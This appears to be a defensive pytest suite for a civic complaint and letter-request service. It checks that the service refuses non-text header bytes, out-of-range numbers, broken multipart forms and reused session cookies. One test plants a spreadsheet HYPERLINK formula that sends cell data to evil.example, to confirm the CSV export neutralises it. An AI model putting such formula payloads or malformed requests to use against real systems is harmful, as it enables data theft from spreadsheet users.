"""What a hostile client tried against the running service (a review of every route with the integrations on),
each kept as a test: header bytes that are not text, numbers out of range, forms without a boundary, a
spreadsheet formula for a name, a cookie kept after signing out or after enrolment, and letter requests
opened through the complaint desk.
"""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlsplit

import aiohttp
import pytest

from bot.__main__ import issue_code
from bot.message import utcnow
from bot.store.base import Changes, Identity, Ticket
from tests.core.test_flows import file_complaint
from tests.fakes.graph_api import FakeGraphApi
from tests.fakes.telegram_api import FakeTelegramApi
from tests.harness import running_service, say, texts, web_headers
from tests.security.conftest import channels_on

SMS_KEY = "sms-signing-key-value"


@pytest.fixture
async def svc(tmp_path: Path, nlu_model_path: Path):
    async with FakeTelegramApi() as telegram, FakeGraphApi(token="wa-token", phone_number_id="555") as graph:
        settings = channels_on(tmp_path, telegram, graph, SMS_ANDROID_USERNAME="u", SMS_ANDROID_PASSWORD="p",
                               SMS_ANDROID_SIGNING_KEY=SMS_KEY, SMS_ANDROID_URL="http://127.0.0.1:9/3rdparty/v1",
                               WARGA_OPERATOR_TOKEN="operator-token-value")
        async with running_service(settings) as service:
            yield service


async def raw_request(url: str, method: str, path: str, headers: list[tuple[bytes, bytes]],
                      body: bytes = b"") -> int:
    """One HTTP/1.1 request written byte for byte (a client library would refuse these headers); its status."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    lines = [f"{method} {path} HTTP/1.1".encode(), f"Host: {parts.netloc}".encode(), b"Connection: close",
             f"Content-Length: {len(body)}".encode(), *[k + b": " + v for k, v in headers]]
    writer.write(b"\r\n".join(lines) + b"\r\n\r\n" + body)
    await writer.drain()
    status_line = await asyncio.wait_for(reader.readline(), 10)
    writer.close()
    return int(status_line.split()[1])


NOT_TEXT = b"\xff\xfe"
# No session: the desk sends to its sign-in page, the chat opens a fresh anonymous session or asks for one,
# health answers without details; a webhook with a secret that is not text has the wrong secret.
EXPECTED = {"/desk": 303, "/desk/tiket": 303, "/webhooks/rest/session": 200, "/webhooks/rest/history": 401,
            "/webhooks/rest/webhook": 200, "/staff/masuk": 400, "/healthz": 200, "/model/parse": 401,
            "/webhooks/telegram": 403, "/webhooks/whatsapp": 403}


@pytest.mark.parametrize(("method", "path", "header"), [
    ("GET", "/desk", b"Cookie"),
    ("GET", "/desk/tiket", b"Cookie"),
    ("GET", "/webhooks/rest/session", b"Cookie"),
    ("GET", "/webhooks/rest/history", b"Authorization"),
    ("POST", "/webhooks/rest/webhook", b"Authorization"),
    ("POST", "/staff/masuk", b"Cookie"),
    ("GET", "/healthz", b"Authorization"),
    ("POST", "/model/parse", b"Authorization"),
    ("POST", "/webhooks/telegram", b"X-Telegram-Bot-Api-Secret-Token"),
    ("POST", "/webhooks/whatsapp", b"X-Hub-Signature-256"),
])
async def test_header_bytes_that_are_not_text_get_a_4xx_not_a_500(svc, method, path, header) -> None:
    value = {b"Cookie": b"warga_session=a~r~1~" + NOT_TEXT, b"Authorization": b"Bearer " + NOT_TEXT}.get(
        header, NOT_TEXT)
    status = await raw_request(svc.url, method, path, [(header, value), (b"Content-Type", b"application/json")],
                               b'{"text": "halo", "message": "halo"}')
    assert status == EXPECTED[path], status


@pytest.mark.parametrize("stamp", [b"9" * 400, "²".encode(), b"-5"])
async def test_an_sms_delivery_with_an_impossible_timestamp_is_refused(svc, stamp) -> None:
    status = await raw_request(svc.url, "POST", "/webhooks/sms",
                               [(b"X-Timestamp", stamp), (b"X-Signature", b"ab" * 32),
                                (b"Content-Type", b"application/json")], b'{"event": "sms:received"}')
    assert status == 403


async def test_an_sms_signature_that_is_not_text_is_refused(svc) -> None:
    status = await raw_request(svc.url, "POST", "/webhooks/sms",
                               [(b"X-Timestamp", str(int(utcnow().timestamp())).encode()),
                                (b"X-Signature", NOT_TEXT), (b"Content-Type", b"application/json")],
                               b'{"event": "sms:received"}')
    assert status == 403


async def staff_session(http: aiohttp.ClientSession, svc, role: str, opd: str | None = None) -> tuple[str, str]:
    """A web visitor enrols with a code and becomes staff: (the resident token before, the staff token after)."""
    async with http.get(f"{svc.url}/webhooks/rest/session") as resp:
        before = resp.cookies["warga_session"].value
    code = await issue_code(svc.settings, role, opd)
    async with http.post(f"{svc.url}/webhooks/rest/webhook", json={"message": f"/daftar {code}"}) as resp:
        assert resp.status == 200 and "terdaftar" in texts(await resp.json())
        after = resp.cookies["warga_session"].value
    return before, after


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def test_out_of_range_numbers_and_dates_get_400(svc, browser) -> None:
    _, staff = await staff_session(browser, svc, "operator")
    async with aiohttp.ClientSession() as http:
        for path in ("/desk?dari=0001-01-01&sampai=0001-02-01", "/desk?dari=9999-12-20&sampai=9999-12-31",
                     "/desk/tiket?dari=0001-01-01", "/desk/peta.json?dari=0001-01-01&sampai=9999-12-31",
                     "/desk/tiket.csv?dari=9999-12-31"):
            async with http.get(f"{svc.url}{path}", headers=bearer(staff), allow_redirects=False) as resp:
                assert resp.status == 400, (path, resp.status)
        for path in ("/webhooks/rest/history?after=99999999999999999999999", "/webhooks/rest/history?after=-1",
                     "/webhooks/rest/stream?after=99999999999999999999999"):
            async with http.get(f"{svc.url}{path}", headers=bearer(staff)) as resp:
                assert resp.status == 400, (path, resp.status)


async def test_a_form_without_its_boundary_gets_400(svc, browser) -> None:
    number = await file_complaint(browser, svc.url, "warga-form")
    _, staff = await staff_session(browser, svc, "operator")
    async with aiohttp.ClientSession() as http:
        for body, kind in ((b"x", "multipart/form-data"), (b"garbage", "multipart/form-data; boundary=zz"),
                           (b"--zz\r\nbroken", "multipart/form-data; boundary=zz")):  # a part with broken headers
            for path in (f"/desk/tiket/{number}", "/desk/petugas"):
                async with http.post(f"{svc.url}{path}", data=body, headers={
                        **bearer(staff), "Content-Type": kind}, allow_redirects=False) as resp:
                    assert resp.status == 400, (path, body, resp.status)
            async with http.post(f"{svc.url}/webhooks/rest/upload", data=body, headers={
                    **web_headers(svc.url, "warga-form"), "Content-Type": kind}) as resp:
                assert resp.status == 400, (body, resp.status)
            async with http.post(f"{svc.url}/surat/v/YRlPzlEwo2P3PfLHPmtn", data=body,
                                 headers={"Content-Type": kind}) as resp:
                assert resp.status < 500, resp.status


async def desk_csrf(http: aiohttp.ClientSession, url: str, number: str, staff: str) -> str:
    """The form token of a ticket's desk page, as the page gives it to a signed-in member of staff."""
    async with http.get(f"{url}/desk/tiket/{number}", headers=bearer(staff)) as resp:
        page = await resp.text()
    return page.split('name="csrf" value="', 1)[1].split('"', 1)[0]


async def test_a_note_keeps_no_control_characters(svc, browser) -> None:
    number = await file_complaint(browser, svc.url, "warga-nul")
    _, staff = await staff_session(browser, svc, "operator")
    async with aiohttp.ClientSession() as http:
        csrf = await desk_csrf(http, svc.url, number, staff)
        async with http.post(f"{svc.url}/desk/tiket/{number}", headers=bearer(staff), allow_redirects=False,
                             data={"action": "catatan", "text": "cek\x00 lapangan\x07 besok", "csrf": csrf}) as resp:
            assert resp.status == 303
        # Escapes that are not UTF-8 (a byte, a lone surrogate) are refused, not stored as "\ufffd".
        for bad in ("cek%FF%FE+lapangan", "cek+%ED%A0%80+lapangan"):
            body = f"action=catatan&csrf={csrf}&text={bad}".encode()
            async with http.post(f"{svc.url}/desk/tiket/{number}", data=body, allow_redirects=False, headers={
                    **bearer(staff), "Content-Type": "application/x-www-form-urlencoded"}) as resp:
                assert resp.status == 400, (bad, resp.status)
    notes = [e.text for e in await svc.store.ticket_events(number) if e.text and "lapangan" in e.text]
    assert notes == ["cek lapangan besok"]


async def test_a_text_longer_than_the_box_is_refused_whole_not_cut(svc, browser) -> None:
    number = await file_complaint(browser, svc.url, "warga-long")
    _, staff = await staff_session(browser, svc, "operator")
    async with aiohttp.ClientSession() as http:
        csrf = await desk_csrf(http, svc.url, number, staff)
        async with http.post(f"{svc.url}/desk/tiket/{number}", headers=bearer(staff), allow_redirects=False,
                             data={"action": "catatan", "text": "cek lapangan " * 500, "csrf": csrf}) as resp:
            assert resp.status == 400 and "terlalu panjang" in await resp.text()
    assert not [e for e in await svc.store.ticket_events(number) if e.text and "cek lapangan" in e.text]


async def test_a_formula_for_a_name_is_text_in_the_csv_export(svc, browser) -> None:
    number = await file_complaint(browser, svc.url, "warga-csv")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    await svc.store.commit(Changes(identities=[Identity(key="telegram:555", channel="telegram", sender_id="555",
                                                        role="officer", opd_id="dinas-pupr", name=formula)]))
    ticket = await svc.store.get_ticket(number)
    ticket.extra["assignee"] = {"key": "telegram:555", "name": formula}
    await svc.store.commit(Changes(tickets=[ticket]))
    _, staff = await staff_session(browser, svc, "operator")
    async with aiohttp.ClientSession() as http, http.get(f"{svc.url}/desk/tiket.csv", headers=bearer(staff)) as resp:
        rows = list(csv.reader(io.StringIO((await resp.text()).lstrip("\ufeff"))))
    assignee = rows[0].index("Petugas")
    assert [r[assignee] for r in rows[1:] if r[0] == number] == ["'" + formula]


async def test_signing_out_ends_the_staff_session_and_copies_of_its_cookie(svc, browser) -> None:
    _, staff = await staff_session(browser, svc, "operator")
    async with aiohttp.ClientSession() as copy:
        async with copy.get(f"{svc.url}/desk", headers=bearer(staff), allow_redirects=False) as resp:
            assert resp.status == 200
        async with browser.post(f"{svc.url}/staff/keluar") as resp:
            assert resp.status == 200
        await asyncio.sleep(1.1)  # a new sign-in in a later second is a new session
        async with copy.get(f"{svc.url}/desk", headers=bearer(staff), allow_redirects=False) as resp:
            assert resp.status == 303 and "/desk/masuk" in resp.headers["Location"]
        async with copy.post(f"{svc.url}/webhooks/rest/webhook", json={"message": "/antrian"},
                             headers=bearer(staff)) as resp:
            assert resp.status == 403


async def test_the_resident_token_from_before_enrolment_reads_nothing_of_the_staff(svc, browser) -> None:
    before, after = await staff_session(browser, svc, "officer", "dinas-pupr")
    await file_complaint(browser, svc.url, "warga-rahasia", privacy="privacy:rahasia")
    async with aiohttp.ClientSession() as old:
        for path in ("/webhooks/rest/history", "/webhooks/rest/stream?after=0"):
            async with old.get(f"{svc.url}{path}", headers=bearer(before)) as resp:
                assert resp.status == 403, (path, resp.status)
        async with old.get(f"{svc.url}/webhooks/rest/history", headers=bearer(after)) as resp:
            assert resp.status == 200  # the staff session itself reads its history


async def test_letter_requests_stay_out_of_the_complaint_desk_and_the_officers_commands(svc, browser, http) -> None:
    now = utcnow()
    letter = Ticket(number="SRT-2612-0001", kind="surat", topic="domisili", opd_id="dinas-pupr", status="menunggu",
                    text="Permohonan surat domisili", reporter="webchat:pemohon", created_at=now, updated_at=now,
                    due_at=now + timedelta(days=3), media=[])
    await svc.store.commit(Changes(tickets=[letter]))
    _, operator = await staff_session(browser, svc, "operator")
    async with aiohttp.ClientSession() as desk:
        async with desk.get(f"{svc.url}/desk/tiket/{letter.number}", headers=bearer(operator)) as resp:
            assert resp.status == 404
        async with desk.post(f"{svc.url}/desk/tiket/{letter.number}", headers=bearer(operator),
                             data={"action": "alihkan", "opd": "dishub", "text": "pindah", "csrf": "x"},
                             allow_redirects=False) as resp:
            assert resp.status in (400, 404)
    code = await issue_code(svc.settings, "officer", "dinas-pupr")
    assert "terdaftar" in texts(await say(http, svc.url, "pupr-surat", f"/daftar {code}"))
    for command in (f"/info {letter.number}", f"/alihkan {letter.number} dishub pindah",
                    f"/selesai {letter.number} beres"):
        replies = await say(http, svc.url, "pupr-surat", command)
        assert "domisili" not in texts(replies), (command, texts(replies))
    stored = await svc.store.get_ticket(letter.number)
    assert stored.opd_id == "dinas-pupr" and stored.status == "menunggu"


async def test_live_streams_end_when_the_staff_member_signs_out(svc, browser, monkeypatch) -> None:
    """A desk page left open (the list, a ticket) and the staff member's web chat stream stop with a
    `signed_out` event once the session signs out (here from another tab), not hours later."""
    import bot.channels.webchat as webchat_module
    import bot.desk.live as live_module
    monkeypatch.setattr(live_module, "HEARTBEAT", 0.3)  # the check runs at every heartbeat: sooner here
    monkeypatch.setattr(webchat_module, "KEEPALIVE_SECONDS", 0.3)
    monkeypatch.setattr(webchat_module, "POLL_SECONDS", 0.3)
    number = await file_complaint(browser, svc.url, "warga-siaran")
    _, staff = await staff_session(browser, svc, "operator")
    paths = ["/desk/live", f"/desk/tiket/{number}/live", "/webhooks/rest/stream?after=0"]
    async with aiohttp.ClientSession(headers=bearer(staff)) as tab:
        streams = [await tab.get(f"{svc.url}{path}") for path in paths]
        assert [s.status for s in streams] == [200, 200, 200]
        await asyncio.sleep(1.0)  # several heartbeats: signed in, the streams stay open
        async with browser.post(f"{svc.url}/staff/keluar") as resp:
            assert resp.status == 200
        for path, stream in zip(paths, streams, strict=True):
            body = await asyncio.wait_for(stream.content.read(), 10)  # to the end: the server closed it
            assert body.count(b": keep-alive") >= 2, (path, body)
            assert body.rstrip().endswith(b"event: signed_out\ndata: {}"), (path, body)
            stream.release()
        # reconnecting is refused: the pages send the browser to the sign-in page
        async with tab.get(f"{svc.url}/desk/live", allow_redirects=False) as resp:
            assert resp.status == 303
        async with tab.get(f"{svc.url}/webhooks/rest/stream?after=0") as resp:
            assert resp.status == 403
